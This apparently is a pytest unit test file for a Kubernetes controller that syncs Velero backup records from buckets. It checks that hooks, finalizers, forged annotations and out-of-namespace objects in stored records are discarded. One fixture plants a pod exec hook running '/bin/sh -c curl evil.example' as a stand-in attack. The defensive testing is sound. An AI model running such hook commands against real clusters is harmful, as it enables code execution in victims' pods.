"""Records that come from a bucket: nothing in them is run by Velero, pruned by a tracker, or believed of ours."""

from datetime import timedelta

import pytest

from reprieve.core.objects import ObjectKind
from reprieve.entrypoints.controller.runtime import run_once
from tests.unit.overtime import DAY, HOUR, NOW, Namespace, files_of, location, record, told, volume

ARGO = "argocd.argoproj.io/instance"


def test_nothing_that_velero_or_reprieve_acts_on_comes_back_with_a_record():
    """Who can write to the bucket writes a record: hooks that run commands in pods, finalizers that nobody takes off.

    A stored state of a deletion, an acknowledgement or a mark of ours was believed as if it had been made here.
    """
    stored = record("foo")
    stored["metadata"] |= {
        "finalizers": ["example.com/never", "gc.ark.heptio.com"],
        "annotations": {
            "reprieve.dev/deletion": '{"uid":"x","stage":"bucketFiles"}',
            "reprieve.dev/acknowledge": "NoAdapter:00000000",
            "reprieve.dev/hold-mirrored": "0" * 64,
            "reprieve.dev/synced-at": "2000-01-01T00:00:00Z",
            "kubectl.kubernetes.io/last-applied-configuration": "{}",
            "argocd.argoproj.io/tracking-id": "app:velero.io/Backup:velero/foo",
            "owner": "team-a",
        },
        "labels": {ARGO: "app", "reprieve.dev/metadata-missing": "true", "team": "a"},
    }
    command = {"exec": {"container": "db", "command": ["/bin/sh", "-c", "curl evil.example"]}}
    stored["spec"]["hooks"] = {"resources": [{"name": "h", "pre": [command]}]}
    stored["data"] = {"more": "than a record has"}
    ns = Namespace(location(), buckets={"b": files_of(stored)})
    ns.run("sync")
    found = ns.get("foo")
    assert set(found.meta.annotations) == {"owner", "reprieve.dev/synced-at"}
    assert found.meta.annotations["reprieve.dev/synced-at"] != "2000-01-01T00:00:00Z"
    assert dict(found.meta.labels) == {"team": "a", "velero.io/storage-location": "default"}
    assert found.meta.finalizers == ()
    assert "hooks" not in found.section("spec")
    assert "data" not in found.body


def test_a_hold_in_a_stored_record_is_not_lost():
    """Whatever else is left behind, a hold comes back."""
    stored = record("foo", expires=NOW, annotations={"reprieve.dev/hold": "case 4711"})
    ns = Namespace(location(), buckets={"b": files_of(stored)})
    ns.run("sync")
    ns.run("sync", "retention", "deletion", at=NOW + 3 * DAY)
    assert ns.get("foo").meta.annotations["reprieve.dev/hold"] == "case 4711"


def test_velero_finds_no_pod_volume_backup_to_work_on():
    """A stored volume in phase New would have been run by Velero's node agent, into the repository that it names."""
    volumes = [volume(f"v-{n}", "foo") for n in range(6)]
    phases = ["", "New", "InProgress", "Prepared", "Completed", "Completed"]
    for each, phase in zip(volumes, phases, strict=True):
        each["status"]["phase"] = phase
        each["metadata"]["finalizers"] = ["velero.io/pod-volume-finalizer"]
    volumes[5]["status"].pop("snapshotID")
    ns = Namespace(location(), buckets={"b": files_of(record("foo"), volumes=volumes)})
    ns.run("sync")
    assert ns.names("PodVolumeBackup") == {"v-4"}
    assert ns.get("v-4", "PodVolumeBackup").meta.finalizers == ()
    assert "reprieve.dev/sync-incomplete" not in ns.get("foo").meta.annotations


class Tracker:
    """Something that takes away every record it did not apply, as often as sync creates it."""

    def __init__(self, ns):
        self.ns = ns
        self.built = ns.build("sync", "retention", "deletion")

    def hours(self, first, last, *, prune=True):
        """Let these hours pass, with a pass of every controller at each, and the tracker's own behind it."""
        for hour in range(first, last + 1):
            at = self.ns.now = NOW + timedelta(hours=hour)
            run_once(self.built.reconcilers, now=at)
            found = self.ns.get("foo")
            if prune and found is not None:
                self.ns.cluster.cluster.delete(found.ref)

    def close(self):
        self.built.close()


@pytest.mark.parametrize("mark", [ARGO, "app.kubernetes.io/instance"], ids=["a-tracker-s-own-mark", "a-common-label"])
def test_a_record_that_is_pruned_and_created_for_ever_expires_all_the_same(mark):
    """The stored record bore a tracker's mark: it pruned it, sync created it again, and each time the grace began anew.

    The expired backup was never deleted, and paid for, as long as the two of them went on.
    """
    stored = record("foo", expires=NOW - DAY)
    stored["metadata"]["labels"][mark] = "app"
    ns = Namespace(location(), buckets={"b": files_of(stored)})
    tracker = Tracker(ns)
    try:
        tracker.hours(1, 23)
        assert "backups/foo/velero-backup.json" in ns.stores.files("b")  # its grace: 24 h from the first time
        tracker.hours(24, 50)
    finally:
        tracker.close()
    assert [key for key in ns.stores.files("b") if "/foo/" in key] == []


def test_a_controller_that_starts_anew_learns_when_a_record_came_first():
    """What a process remembers ends with it; the record that is there when the next begins tells it again."""
    stored = record("foo", expires=NOW - DAY)
    ns = Namespace(location(), buckets={"b": files_of(stored)})
    first = Tracker(ns)
    first.hours(1, 1, prune=False)
    first.close()
    since = ns.get("foo").meta.annotations["reprieve.dev/synced-at"]
    second = Tracker(ns)
    try:
        second.hours(2, 5)
        second.hours(6, 6, prune=False)
    finally:
        second.close()
    assert ns.get("foo").meta.annotations["reprieve.dev/synced-at"] == since


def test_another_backup_of_the_name_is_new():
    """An honest neighbour: what was learnt of one backup is not held against the next of that name."""
    ns = Namespace(location(), buckets={"b": files_of(record("foo", expires=NOW - DAY))})
    tracker = Tracker(ns)
    try:
        tracker.hours(1, 2)
        later = record("foo", expires=NOW - DAY, startTimestamp="2026-02-27T00:00:00Z")
        ns.stores.files("b").update(files_of(later))
        at = ns.now = NOW + 30 * HOUR
        report = run_once(tracker.built.reconcilers, now=at)
    finally:
        tracker.close()
    assert ("sync", "foo", "KEEP", "InBucket") in told(report)
    assert ns.get("foo").meta.annotations["reprieve.dev/synced-at"] == "2026-03-02T18:00:00Z"


def test_the_kinds_that_sync_creates_are_the_two():
    """Whatever a bucket holds, sync makes Backups and PodVolumeBackups of it, in its own namespace."""
    stored = record("foo")
    stored["metadata"]["namespace"] = "kube-system"
    evil = volume("v", "foo")
    evil |= {"kind": "Pod", "apiVersion": "v1"}
    evil["metadata"]["namespace"] = "kube-system"
    ns = Namespace(location(), buckets={"b": files_of(stored, volumes=[evil])})
    ns.run("sync")
    assert {each for each in ns.cluster.writes if each.startswith("create")} == {
        "create Backup",
        "create PodVolumeBackup",
    }
    for kind in ("Backup", "PodVolumeBackup"):
        listed = ns.cluster.cluster.list(ObjectKind("velero.io/v1", kind)).items
        assert {each.meta.namespace for each in listed} == {"velero"}
